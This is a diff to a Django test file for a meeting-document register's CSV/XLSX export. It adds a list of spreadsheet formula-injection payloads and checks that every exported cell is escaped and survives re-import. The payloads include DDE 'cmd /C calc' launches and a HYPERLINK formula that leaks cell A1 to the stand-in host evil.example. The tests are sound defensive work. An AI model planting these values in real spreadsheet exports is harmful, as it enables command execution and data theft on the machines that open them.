@@ -1,7 +1,10 @@
 """A meeting's list of documents out to a spreadsheet and back."""
 
+import csv
 import datetime
+import io
 
+import openpyxl
 import pytest
 import tablib
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -190,13 +193,49 @@ def test_xlsx_export_then_import_gives_back_the_same_rows(register):
     assert _export_csv() == exported
 
 
-def test_export_escapes_formulae(meeting, delegate_a):
-    make_contribution(meeting=meeting, delegate=delegate_a, title='=HYPERLINK("http://x")')
+# What a delegate may type to have the secretariat's spreadsheet run something.
+FORMULA_VECTORS = [
+    "==cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+]
 
-    exported = _export_csv()
 
-    assert 'HYPERLINK(""http://x"")' in exported
-    assert "=HYPERLINK" not in exported
+def test_no_exported_cell_reads_as_a_formula(meeting, delegate_a):
+    for number, vector in enumerate(FORMULA_VECTORS):
+        document = make_contribution(meeting=meeting, delegate=delegate_a, title=f"Plain {number}")
+        Contribution.objects.filter(pk=document.pk).update(abstract=vector)
+    document = make_contribution(meeting=meeting, delegate=delegate_a, title="-Subtraction")
+    Contribution.objects.filter(pk=document.pk).update(abstract="x")
+    stored = dict(Contribution.objects.values_list("title", "abstract"))
+
+    dataset = ContributionResource().export()
+    rows = list(csv.DictReader(io.StringIO(CSV().export_data(dataset))))
+    workbook = openpyxl.load_workbook(io.BytesIO(XLSX().export_data(dataset)))
+    cells = [cell for row in workbook.active.iter_rows() for cell in row]
+
+    # Every cell a spreadsheet would compute is marked as text, as stored behind the mark.
+    assert {row["title"]: row["abstract"] for row in rows} == {
+        **{title: f"'{abstract}" for title, abstract in stored.items() if abstract != "x"},
+        "'-Subtraction": "x",
+    }
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    abstracts = [cell.value for cell in cells if cell.column == HEADERS.index("abstract") + 1]
+    assert abstracts[1:] == [row["abstract"] for row in rows]
+    # Imported back, the mark comes off: the register is as it was.
+    result = _import(tablib.Dataset().load(CSV().export_data(dataset), format="csv"))
+    assert (result.has_errors(), dict(Contribution.objects.values_list("title", "abstract"))) == (
+        False,
+        stored,
+    )
 
 
 def test_import_updates_metadata_and_never_status_nor_number(register, meeting):
@@ -319,7 +358,7 @@ def test_admin_export_of_a_meeting_is_csv_with_escaped_formulae(
     assert response["Content-Type"] == "text/csv"
     rows = response.content.decode().splitlines()
     assert rows[0] == ",".join(HEADERS)
-    assert [row.split(",")[3] for row in rows[1:]] == ["1+2"]
+    assert [row.split(",")[3] for row in rows[1:]] == ["'=1+2"]
     assert [label for _value, label in form.fields["format"].choices] == ["---", "csv", "xlsx"]
 
 
